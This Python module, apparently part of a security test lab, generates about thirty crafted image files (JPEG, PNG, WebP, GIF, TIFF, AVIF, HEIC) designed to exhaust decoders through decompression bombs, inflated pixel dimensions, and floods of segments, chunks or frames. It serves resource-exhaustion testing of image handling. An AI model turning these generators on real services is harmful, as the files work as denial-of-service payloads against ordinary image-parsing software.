"""Files that are made to cost much: of very many parts, or with far more in them than they show."""

from __future__ import annotations

import io
import struct
import zlib
from typing import TYPE_CHECKING, Final

from PIL import Image

from lab.attack.gif import encoded
from lab.attack.jpeg import segment
from lab.attack.png import chunk
from lab.attack.webp import chunk as webp_chunk

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

_PNG: Final = b"\x89PNG\r\n\x1a\n"
_XMP: Final = b"http://ns.adobe.com/xap/1.0/\0"
_RATIO: Final = 20
"""How many times larger than a file what it decompresses to is."""
_TIFF: Final = b"http://ns.adobe.com/tiff/1.0/"


def _jpeg() -> bytes:
    return encoded(Image.new("RGB", (8, 8)), "JPEG")


def _segments(content: bytes) -> Callable[[int], bytes]:
    def make(size: int) -> bytes:
        one = segment(0xE1, content)
        return _jpeg()[:2] + one * (size // len(one)) + _jpeg()[2:]

    return make


def _between(junk: bytes) -> Callable[[int], bytes]:
    """Return a maker of a file that only a tolerant reader follows."""
    return lambda size: _jpeg()[:20] + junk * (size // len(junk)) + _jpeg()[20:]


def _on_its_side(junk: bytes) -> Callable[[int], bytes]:
    """Return a maker of a photo that has to be decoded."""
    exif = segment(0xE1, b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0\0\0\0\0")
    return lambda size: _jpeg()[:2] + exif + junk * (size // len(junk)) + _jpeg()[2:]


def _tiff(size: int) -> bytes:
    """Return a file with a strip of pixels for every four bytes."""
    number = size // 4
    fields = [(256, 4, 1, 8), (257, 4, 1, number), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (278, 4, 1, 1)]
    fields += [(273, 4, number, 0), (279, 4, 1, 8)]
    start = 8 + 2 + 12 * len(fields) + 4
    entries = [(tag, kind, count, value or start) for tag, kind, count, value in sorted(fields)]
    written = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(fields)) + written + bytes(4) + bytes(4 * number)


def _in_scan(junk: bytes) -> Callable[[int], bytes]:
    return lambda size: _jpeg()[:-2] + junk * (size // len(junk)) + b"\xff\xd9"


def _prefixes(size: int) -> bytes:
    names = b"".join(b'xmlns:p%d="%s" ' % (number, _TIFF) for number in range(1_300))
    one = segment(0xE1, _XMP + (names + b":Orientation=" * 800)[:65_000])
    return _jpeg()[:2] + one * (size // len(one)) + _jpeg()[2:]


def _png(kind: bytes, content: bytes) -> Callable[[int], bytes]:
    def make(size: int) -> bytes:
        png, one = encoded(Image.new("RGB", (8, 8)), "PNG"), chunk(kind, content)
        return png[:33] + one * (size // len(one)) + png[33:]

    return make


def _big(width: int, height: int) -> bytes:
    return width.to_bytes(4) + height.to_bytes(4) + b"\x08\x02\0\0\0"


def _png_bomb(width: int, height: int) -> Callable[[int], bytes]:
    """Return a maker of a file of few bytes with very many pixels, of which a part is there."""

    def make(size: int) -> bytes:
        data = zlib.compress(bytes(_RATIO * size), 1)
        return _PNG + chunk(b"IHDR", _big(width, height)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")

    return make


def _png_profile(size: int) -> bytes:
    png = encoded(Image.new("RGB", (8, 8)), "PNG")
    return png[:33] + chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(_RATIO * size), 1)) + png[33:]


def _more_pixels(size: int) -> bytes:
    data = zlib.compress(bytes(_RATIO * size), 1)
    return _PNG + chunk(b"IHDR", _big(8, 8)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _apng(_: int) -> bytes:
    png = encoded(Image.new("RGB", (8, 8)), "PNG")
    control = chunk(b"acTL", (3_000).to_bytes(4) + bytes(4))
    frame = chunk(b"fcTL", bytes(4) + (30_000).to_bytes(4) * 2 + bytes(14)) + chunk(b"fdAT", bytes(12))
    return png[:33] + control + png[33:-12] + frame * 9 + png[-12:]


def _webp(kind: bytes, content: bytes) -> Callable[[int], bytes]:
    def make(size: int) -> bytes:
        webp, one = encoded(Image.new("RGB", (8, 8)), "WEBP"), webp_chunk(kind, content)
        chunks = webp[8:] + one * (size // len(one))
        return b"RIFF" + len(chunks).to_bytes(4, "little") + chunks

    return make


def _webp_frames(width: int) -> Callable[[int], bytes]:
    pixels = encoded(Image.new("RGB", (8, 8)), "WEBP", lossless=True)[12:]
    size = (width - 1).to_bytes(3, "little") * 2
    head = webp_chunk(b"VP8X", b"\2\0\0\0" + size) + webp_chunk(b"ANIM", bytes(6))
    return lambda number: _riff(head + webp_chunk(b"ANMF", bytes(6) + size + bytes(4) + pixels) * (number // 10_000))


def _riff(chunks: bytes) -> bytes:
    return b"RIFF" + (4 + len(chunks)).to_bytes(4, "little") + b"WEBP" + chunks


def _gif(width: int, height: int, left: int = 0) -> Callable[[int], bytes]:
    """Return a maker of a file of 35 bytes with a small screen and a large image."""
    place = left.to_bytes(2, "little") * 2 + width.to_bytes(2, "little") + height.to_bytes(2, "little")
    return lambda _: b"GIF89a\1\0\1\0\0\0\0," + place + b"\0\2\2\x44\1\0;"


def _gif_blocks(size: int) -> bytes:
    return b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2" + b"\1" * (size // 2 * 2) + b"\0;"


def _gif_extensions(size: int) -> bytes:
    return b"GIF89a\1\0\1\0\0\0\0" + b"!\xfe\0" * (size // 3) + b",\0\0\0\0\1\0\1\0\0\2\2\x44\1\0;"


def _gif_codes(size: int) -> bytes:
    return b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\xff\xff\xff\x00\0\2" + (b"\xff" + b"\x24" * 255) * (size // 256) + b"\0;"


def _boxes(size: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "AVIF")
    at = 4 + out.getvalue().index(b"ftyp") - 4 - 4 + int.from_bytes(out.getvalue()[:4])
    return out.getvalue()[:at] + b"\0\0\0\x08free" * (size // 8) + out.getvalue()[at:]


def _tiles(_: int) -> bytes:
    small = encoded(Image.new("RGB", (64, 64)), "HEIF")
    size = b"ispe\0\0\0\0" + (64).to_bytes(4) * 2
    return small.replace(size, b"ispe\0\0\0\0" + (30_000).to_bytes(4) * 2)


BOMBS: Final[Mapping[str, Callable[[int], bytes]]] = {
    "JPEG: segments of 4 bytes": _segments(b""),
    "JPEG: EXIF that announces 65,535 entries": _segments(b"Exif\0\0II*\0\x08\0\0\0\xff\xff"),
    "JPEG: XMP with thousands of prefixes": _prefixes,
    "JPEG: markers that are none": _between(b"\xff\x01"),
    "JPEG: zeros between segments": _between(b"\0\0"),
    "JPEG: fill bytes": _between(b"\xff"),
    "JPEG: fill bytes before a photo on its side": _on_its_side(b"\xff"),
    "JPEG: zeros before a photo on its side": _on_its_side(b"\0\0"),
    "JPEG: stuffed bytes": _in_scan(b"\xff\0"),
    "JPEG: restarts": _in_scan(b"\xff\xd0"),
    "JPEG: text among the pixels": _in_scan(b"seven.. \xff\0"),
    "PNG: empty chunks": _png(b"prVt", b""),
    "PNG: compressed texts": _png(b"zTXt", b"Raw profile type exif\0\0" + zlib.compress(bytes(1_000_000), 9)),
    "PNG: empty pixels": _png(b"IDAT", b""),
    "PNG: 900 million pixels": _png_bomb(30_000, 30_000),
    "PNG: an animation of large frames": _apng,
    "PNG: a profile that expands": _png_profile,
    "PNG: more pixels than it states": _more_pixels,
    "WebP: empty chunks": _webp(b"prVt", b""),
    "WebP: an animation of many frames": _webp_frames(8),
    "WebP: an animation of large frames": _webp_frames(16_384),
    "GIF: a large image on a small screen": _gif(30_000, 30_000),
    "GIF: an image far from its screen": _gif(1, 1, 65_000),
    "GIF: blocks of a byte": _gif_blocks,
    "GIF: empty extensions": _gif_extensions,
    "GIF: codes": _gif_codes,
    "TIFF: strips": _tiff,
    "AVIF: empty boxes": _boxes,
    "HEIC: a large tile": _tiles,
}
"""What makes each file, given about how many bytes it may have."""
